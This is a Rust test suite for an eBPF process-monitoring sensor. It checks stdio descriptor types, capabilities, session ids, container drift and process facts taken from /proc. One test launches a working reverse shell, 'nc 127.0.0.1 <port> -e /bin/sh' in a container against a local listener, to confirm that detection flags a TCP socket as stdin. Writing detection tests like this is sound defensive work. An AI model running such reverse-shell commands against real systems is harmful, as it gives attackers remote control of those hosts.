//! The exec facts on the real kernel: what fd 0, 1 and 2 are (a reverse shell's
//! stdin is a TCP socket), the capability sets against /proc/PID/status, the
//! session against `ps -o sid`, container drift (a binary copied into a running
//! container and run, against the image's own), and the same facts from /proc
//! for processes that were running before the agent started.

use std::{
    io::{Read as _, Write as _},
    net::{TcpListener, TcpStream},
    os::{fd::OwnedFd, unix::net::UnixStream},
    process::{Command, Stdio},
    time::Duration,
};

use sensor::{
    context::{EnrichConfig, Enricher},
    event::{Body, Event, EventKind, Facts, FdType, facts::cap_names},
    kernel::{EventReader, KernelConfig, WakeupPolicy},
};
use sensor_tests::{
    argv, can_load_ebpf,
    container::{Container, Layout, Spec},
    exec_of, nonce, start_with, test_config,
    trace::Trace,
};

/// What the enricher said of one event.
#[derive(Clone, Debug)]
struct Seen {
    event: Event,
    facts: Option<Facts>,
    container: Option<String>,
    container_start_ns: Option<u64>,
    is_exe_changed: Option<bool>,
    sname: Option<String>,
    sys_admin: Option<bool>,
}

fn config() -> KernelConfig {
    KernelConfig {
        kinds: vec![
            EventKind::Exec,
            EventKind::Fork,
            EventKind::Exit,
            EventKind::Capset,
        ],
        ..test_config(WakeupPolicy::EveryEvent)
    }
}

fn enricher() -> Enricher {
    Enricher::start(&EnrichConfig::default(), None).expect("the enricher starts")
}

/// Reads, enriches and keeps events until `done` or `timeout`.
async fn enrich_until(
    reader: &mut EventReader,
    enricher: &mut Enricher,
    timeout: Duration,
    mut done: impl FnMut(&[Seen]) -> bool,
) -> Vec<Seen> {
    let deadline = std::time::Instant::now() + timeout;
    let mut seen = Vec::new();
    let mut batch = Vec::new();
    while std::time::Instant::now() < deadline && !done(&seen) {
        batch.clear();
        reader
            .read_batch(&mut batch)
            .await
            .expect("reading the ring");
        for event in &batch {
            enricher.note(event);
        }
        for event in &batch {
            enricher.observe(event);
            let who = enricher.who(event);
            seen.push(Seen {
                event: event.clone(),
                facts: who.process.map(|p| p.facts),
                container: who.container.as_ref().map(|c| c.id.clone()),
                container_start_ns: who.container_start_ns,
                is_exe_changed: who.is_exe_changed(),
                sname: who.session_leader.map(|p| p.comm.clone()),
                // CAP_SYS_ADMIN is 21: the table's mask, not the printed names.
                sys_admin: who.process.map(|p| p.has_cap(21)),
            });
            enricher.retire(event);
        }
    }
    seen
}

/// The exec events with `marker` as one of their arguments (not merely inside
/// one: a shell's script names the markers of the commands it runs).
fn execs_with<'a>(seen: &'a [Seen], marker: &str) -> Vec<&'a Seen> {
    seen.iter()
        .filter(|s| argv(&s.event).iter().any(|a| a == marker))
        .collect()
}

fn exec_with<'a>(seen: &'a [Seen], marker: &str, argv0: &str) -> &'a Seen {
    execs_with(seen, marker)
        .into_iter()
        .find(|s| argv(&s.event).first().is_some_and(|a| a.ends_with(argv0)))
        .unwrap_or_else(|| panic!("no exec of {argv0} with {marker}"))
}

fn stdio(seen: &Seen) -> [FdType; 3] {
    seen.facts.expect("the process is in the table").stdio
}

/// CapEff, CapPrm, CapInh of `/proc/<pid>/status`.
fn status_caps(pid: u32) -> (u64, u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    let get = |key: &str| {
        let line = status
            .lines()
            .find_map(|l| l.strip_prefix(key))
            .unwrap_or_else(|| panic!("no {key} in status"));
        u64::from_str_radix(line.trim(), 16).expect("hex caps")
    };
    (get("CapEff:"), get("CapPrm:"), get("CapInh:"))
}

fn caps_of(seen: &Seen) -> (u64, u64, u64) {
    let caps = seen.facts.and_then(|f| f.caps).expect("caps are known");
    (caps.effective, caps.permitted, caps.inheritable)
}

/// The session id `ps` shows for `pid`.
fn ps_sid(pid: u32) -> u32 {
    let out = Command::new("ps")
        .args(["-o", "sid=", "-p", &pid.to_string()])
        .output()
        .expect("ps");
    String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("ps -o sid for {pid}: {out:?}"))
}

/// A connected TCP pair on `addr`: (the client end, the server end).
fn tcp_pair(addr: &str) -> (TcpStream, TcpStream) {
    let listener = TcpListener::bind(addr).unwrap_or_else(|e| panic!("listen on {addr}: {e}"));
    let client = TcpStream::connect(listener.local_addr().expect("addr")).expect("connect");
    let (server, _) = listener.accept().expect("accept");
    (client, server)
}

#[tokio::test]
async fn stdio_types_are_the_descriptors_after_exec() {
    if !can_load_ebpf("stdio_types") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("stdio");

    // A shell whose stdin is a TCP socket, stdout a pipe and stderr /dev/null;
    // it runs `true` with its stdin closed.
    let (client, _server) = tcp_pair("127.0.0.1:0");
    let (mut pipe_r, pipe_w) = std::io::pipe().expect("a pipe");
    let mut first = Command::new("/bin/sh")
        .args(["-c", "exec /bin/true \"$0\" <&-", &marker])
        .stdin(Stdio::from(OwnedFd::from(client)))
        .stdout(Stdio::from(pipe_w))
        .stderr(Stdio::null())
        .spawn()
        .expect("sh");
    assert!(first.wait().expect("sh exits").success());
    let mut none = Vec::new();
    let _ = pipe_r.read_to_end(&mut none);

    // IPv6 in, a Unix socket out, an eventfd as stderr.
    let (client6, _server6) = tcp_pair("[::1]:0");
    let (unix, _peer) = UnixStream::pair().expect("a unix pair");
    // SAFETY: eventfd has no preconditions; the new descriptor is owned below.
    let efd = unsafe { libc::eventfd(0, libc::EFD_CLOEXEC) };
    assert!(efd >= 0, "eventfd: {}", std::io::Error::last_os_error());
    // SAFETY: a fresh descriptor that nothing else owns.
    let efd = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(efd) };
    let mut second = Command::new("/bin/true")
        .arg(format!("{marker}-v6"))
        .stdin(Stdio::from(OwnedFd::from(client6)))
        .stdout(Stdio::from(OwnedFd::from(unix)))
        .stderr(Stdio::from(efd))
        .spawn()
        .expect("true");
    assert!(second.wait().expect("true exits").success());

    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        execs_with(seen, &marker).len() >= 2
            && !execs_with(seen, &format!("{marker}-v6")).is_empty()
    })
    .await;
    let sh = exec_with(&seen, &marker, "sh");
    assert_eq!(
        stdio(sh),
        [FdType::Ipv4, FdType::Pipe, FdType::Char],
        "{sh:?}"
    );
    let exec = exec_of(&sh.event).expect("an exec");
    assert_eq!(exec.facts.stdio, stdio(sh), "the table holds the exec's");
    let inner = execs_with(&seen, &marker)
        .into_iter()
        .find(|s| argv(&s.event) == ["/bin/true", marker.as_str()])
        .expect("the inner true");
    assert_eq!(stdio(inner), [FdType::NotOpen, FdType::Pipe, FdType::Char]);
    let v6 = exec_with(&seen, &format!("{marker}-v6"), "true");
    assert_eq!(
        stdio(v6),
        [FdType::Ipv6, FdType::Unix, FdType::Anon],
        "{v6:?}"
    );
    assert_eq!(FdType::Ipv4.name(), "ipv4");
}

#[tokio::test]
async fn a_reverse_shell_in_a_container_has_a_tcp_socket_for_stdin() {
    if !can_load_ebpf("reverse_shell") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("revshell");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port().to_string();
    // busybox nc -e: the shell's stdin and stdout are the connection.
    let container =
        Container::create_host_network(&marker, &["/bin/nc", "127.0.0.1", &port, "-e", "/bin/sh"]);
    container.start();
    let (mut conn, _) = listener.accept().expect("the shell connects");
    writeln!(conn, "/bin/echo {marker}; exit").expect("a command for the shell");
    let mut answer = String::new();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("a timeout");
    let _ = conn.read_to_string(&mut answer);
    assert!(answer.contains(&marker), "the shell ran: {answer:?}");

    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        !execs_with(seen, &marker).is_empty()
    })
    .await;
    let ours = |s: &&Seen| s.container.as_deref() == Some(container.id.as_str());
    let shell = seen
        .iter()
        .filter(ours)
        .find(|s| argv(&s.event).first().is_some_and(|a| a == "/bin/sh"))
        .expect("the shell's exec");
    assert_eq!(stdio(shell)[..2], [FdType::Ipv4, FdType::Ipv4], "{shell:?}");
    let echo = exec_with(&seen, &marker, "echo");
    assert_eq!(echo.container.as_deref(), Some(container.id.as_str()));
    assert_eq!(stdio(echo)[0], FdType::Ipv4);
    container.wait(Duration::from_secs(10));
}

#[tokio::test]
async fn capabilities_match_proc_status_and_follow_capset() {
    if !can_load_ebpf("capabilities") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("caps");
    // A reduced set, as a pod's securityContext gives one.
    let kept = ["CAP_KILL", "CAP_NET_BIND_SERVICE"];
    let container = Container::create_spec_with(
        &Spec {
            nonce: &marker,
            args: &["/bin/sleep", "30"],
            uid: 0,
            gid: 0,
            files: &[],
            host_network: false,
            layout: Layout::Cgroupfs,
        },
        |config| {
            let set: serde_json::Value = kept.iter().map(|c| serde_json::Value::from(*c)).collect();
            config["process"]["capabilities"] = serde_json::json!({
                "bounding": set, "effective": set, "permitted": set,
                "inheritable": [], "ambient": [],
            });
        },
    );
    let init_pid = container.init_pid();
    container.start();
    // A root shell on the host, and setpriv, whose capset adds an inheritable
    // capability before it execs.
    let mut root = Command::new("/bin/sh")
        .args(["-c", "exec /bin/sleep 5", &marker])
        .spawn()
        .expect("sh");
    let mut setpriv = Command::new("/usr/bin/setpriv")
        .args(["--inh-caps=+net_raw", "/bin/sh", "-c", "exec /bin/sleep 5"])
        .arg(format!("{marker}-setpriv"))
        .spawn()
        .expect("setpriv");
    let root_pid = root.id();
    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(15), |seen| {
        seen.iter()
            .any(|s| s.event.task.pid == init_pid && exec_of(&s.event).is_some())
            && execs_with(seen, &format!("{marker}-setpriv")).len() >= 2
            && seen.iter().any(|s| {
                s.event.task.pid == root_pid
                    && argv(&s.event).first().is_some_and(|a| a == "/bin/sleep")
            })
    })
    .await;

    let init = seen
        .iter()
        .rfind(|s| s.event.task.pid == init_pid && exec_of(&s.event).is_some())
        .expect("the container's exec");
    assert_eq!(caps_of(init), status_caps(init_pid), "{init:?}");
    let caps = init.facts.and_then(|f| f.caps).expect("caps");
    assert_eq!(cap_names(caps.effective), "CAP_KILL CAP_NET_BIND_SERVICE");
    assert_eq!(cap_names(caps.inheritable), "");
    assert_eq!(init.sys_admin, Some(false));

    let host = seen
        .iter()
        .find(|s| {
            s.event.task.pid == root_pid
                && argv(&s.event).first().is_some_and(|a| a == "/bin/sleep")
        })
        .expect("the root sleep");
    assert_eq!(caps_of(host), status_caps(root_pid));
    assert_eq!(
        host.sys_admin,
        Some(true),
        "root on the host has CAP_SYS_ADMIN"
    );

    // setpriv's capset, seen before its exec: the table takes the new sets.
    let pid = setpriv.id();
    let capset = seen
        .iter()
        .rfind(|s| s.event.task.pid == pid && s.event.kind() == EventKind::Capset)
        .expect("setpriv's capset");
    let Body::Priv(call) = &capset.event.body else {
        panic!("a capset body")
    };
    assert_eq!(call.result, 0, "{call:?}");
    assert!(
        caps_of(capset).2 & (1 << 13) != 0,
        "CAP_NET_RAW inheritable after capset: {capset:?}"
    );
    let sh = exec_with(&seen, &format!("{marker}-setpriv"), "sh");
    assert_eq!(caps_of(sh), status_caps(pid));
    for child in [&mut root, &mut setpriv] {
        let _ = child.kill();
        let _ = child.wait();
    }
}

#[tokio::test]
async fn the_session_is_what_ps_shows_and_its_leader_names_it() {
    if !can_load_ebpf("session") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("session");
    let mut leader = Command::new("/usr/bin/setsid")
        .args([
            "/bin/sh",
            "-c",
            "/bin/sh -c 'exec /bin/sleep 5' \"$0\"; true",
        ])
        .arg(&marker)
        .spawn()
        .expect("setsid");
    let leader_pid = leader.id();
    let inner = |s: &&Seen| s.event.task.pid != leader_pid;
    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        execs_with(seen, &marker).iter().any(inner)
    })
    .await;
    // The inner shell, which the leader forked and which becomes sleep.
    let sleep = execs_with(&seen, &marker)
        .into_iter()
        .find(inner)
        .expect("the inner shell");
    let pid = sleep.event.task.pid;
    let sid = sleep.facts.and_then(|f| f.sid).expect("a session id");
    assert_eq!(sid, ps_sid(pid), "{sleep:?}");
    assert_ne!(sid, pid, "sleep is not its session's leader");
    assert_eq!(sid, ps_sid(leader.id()), "the shell leads the session");
    assert_eq!(sleep.sname.as_deref(), Some("sh"));
    // The test process's own session, and its leader, are another.
    let mine = ps_sid(std::process::id());
    assert_ne!(mine, sid);
    let _ = Command::new("kill").arg(pid.to_string()).status();
    let _ = leader.kill();
    let _ = leader.wait();
}

#[tokio::test]
async fn a_binary_copied_into_a_running_container_is_drift_and_the_images_is_not() {
    if !can_load_ebpf("drift") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("drift");
    let script = format!(
        "cp /bin/busybox /tmp/busybox-x; /tmp/busybox-x echo {marker}-copied; /bin/busybox echo {marker}-image; \
         /bin/busybox chmod 755 /bin/busybox; /bin/busybox echo {marker}-chmod"
    );
    let container = Container::create(&marker, &["/bin/sh", "-c", &script], 0, 0);
    let init_pid = container.init_pid();
    container.start();
    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(15), |seen| {
        !execs_with(seen, &format!("{marker}-chmod")).is_empty()
    })
    .await;
    let copied = exec_with(&seen, &format!("{marker}-copied"), "/tmp/busybox-x");
    let image = exec_with(&seen, &format!("{marker}-image"), "busybox");
    let chmod = exec_with(&seen, &format!("{marker}-chmod"), "busybox");
    for s in [copied, image, chmod] {
        assert_eq!(s.container.as_deref(), Some(container.id.as_str()), "{s:?}");
    }
    assert_eq!(copied.is_exe_changed, Some(true), "{copied:?}");
    assert_eq!(image.is_exe_changed, Some(false), "{image:?}");
    assert_eq!(
        chmod.is_exe_changed,
        Some(true),
        "a chmod changes the inode"
    );

    // The container started with its first process: runc's `runc init`, put in
    // the container's cgroup before it forks the container's pid 1, so a little
    // before that one started.
    let init = seen
        .iter()
        .find(|s| s.event.task.pid == init_pid)
        .expect("an event of the container's first process");
    let start = copied.container_start_ns.expect("a container start");
    let clock = sensor::event::clock::BootClock::now();
    let init_start = clock.epoch_ns(init.event.task.start_ns);
    assert!(
        start <= init_start + 1_000_000 && init_start.saturating_sub(start) < 2_000_000_000,
        "{start} vs {init_start}"
    );

    // On the host: no container, no drift.
    let host = seen
        .iter()
        .find(|s| s.container.is_none() && exec_of(&s.event).is_some());
    if let Some(host) = host {
        assert_eq!(
            (host.is_exe_changed, host.container_start_ns),
            (Some(false), None)
        );
    }
    container.wait(Duration::from_secs(10));
}

#[tokio::test]
async fn processes_running_before_the_agent_get_their_facts_from_proc() {
    if !can_load_ebpf("facts_from_proc") {
        return;
    }
    let marker = nonce("fromproc");
    // Started before the agent: a host process with a TCP socket for stdin,
    // and a container whose process is a binary it copied itself.
    let (client, _server) = tcp_pair("127.0.0.1:0");
    let mut host = Command::new("/bin/sh")
        .args(["-c", "exec /bin/sleep 30", &marker])
        .stdin(Stdio::from(OwnedFd::from(client)))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("sleep");
    let container = Container::create(
        &marker,
        &[
            "/bin/sh",
            "-c",
            "cp /bin/busybox /tmp/busybox-x; exec /tmp/busybox-x sleep 30",
        ],
        0,
        0,
    );
    let init_pid = container.init_pid();
    container.start();
    // Until the copy runs, not yet.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !std::fs::read_link(format!("/proc/{init_pid}/exe"))
        .is_ok_and(|exe| exe.to_string_lossy().ends_with("/tmp/busybox-x"))
    {
        assert!(std::time::Instant::now() < deadline, "the copy never ran");
        std::thread::sleep(Duration::from_millis(20));
    }
    let expect_caps = status_caps(host.id());
    let expect_sid = ps_sid(host.id());

    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    // Their exits are their first events the agent sees.
    let _ = host.kill();
    let _ = host.wait();
    let _ = Command::new("kill")
        .args(["-9", &init_pid.to_string()])
        .status();
    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        [host.id(), init_pid].iter().all(|pid| {
            seen.iter()
                .any(|s| s.event.task.pid == *pid && s.event.kind() == EventKind::Exit)
        })
    })
    .await;
    let exit_of = |pid: u32| {
        seen.iter()
            .find(|s| s.event.task.pid == pid && s.event.kind() == EventKind::Exit)
            .unwrap_or_else(|| panic!("no exit of {pid}"))
    };
    let sleep = exit_of(host.id());
    assert_eq!(
        stdio(sleep),
        [FdType::Ipv4, FdType::Char, FdType::Char],
        "{sleep:?}"
    );
    assert_eq!(caps_of(sleep), expect_caps);
    assert_eq!(sleep.facts.and_then(|f| f.sid), Some(expect_sid));
    assert!(sleep.facts.and_then(|f| f.exe_ctime_ns).is_some());
    let drifted = exit_of(init_pid);
    assert_eq!(drifted.container.as_deref(), Some(container.id.as_str()));
    assert!(drifted.container_start_ns.is_some(), "{drifted:?}");
    assert_eq!(drifted.is_exe_changed, Some(true), "{drifted:?}");
}

#[tokio::test]
async fn sensor_trace_prints_the_facts_with_catalogue_names() {
    if !can_load_ebpf("facts_json") {
        return;
    }
    let trace = Trace::start(&["--events", "exec", "--poll-ms", "20"]);
    let marker = nonce("factsjson");
    let (client, _server) = tcp_pair("127.0.0.1:0");
    let mut shell = Command::new("/bin/sh")
        .args(["-c", "exec /bin/true \"$0\"", &marker])
        .stdin(Stdio::from(OwnedFd::from(client)))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("sh");
    assert!(shell.wait().expect("sh exits").success());
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let event = loop {
        let line = trace
            .lines
            .recv_timeout(deadline.saturating_duration_since(std::time::Instant::now()))
            .expect("an event line for our true");
        let value: serde_json::Value =
            serde_json::from_str(&line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}"));
        if value["proc.argv"] == serde_json::json!(["/bin/true", marker]) {
            break value;
        }
    };
    for key in event.as_object().expect("an object").keys() {
        assert!(
            sensor::fields::find(key).is_some(),
            "{key} is not in the catalogue"
        );
    }
    assert_eq!(event["proc.stdin.type"], "ipv4", "{event}");
    assert_eq!(event["proc.stdout.type"], "char");
    let effective = event["thread.cap_effective"].as_str().expect("a string");
    assert!(
        effective.split(' ').any(|c| c == "CAP_SYS_ADMIN"),
        "{effective}"
    );
    assert!(
        event["thread.cap_permitted"].is_string() && event["thread.cap_inheritable"].is_string()
    );
    assert!(event["proc.sid"].is_u64(), "{event}");
    assert_eq!(event["proc.is_exe_changed"], false, "on the host");
    assert!(event.get("container.start_ts").is_none());
    // The shell exec'd true: same process, so its parent is the test's.
    assert_eq!(event["proc.aexe"][0], "/bin/true");
    assert_eq!(event["proc.pexe"], event["proc.aexe"][1]);
}
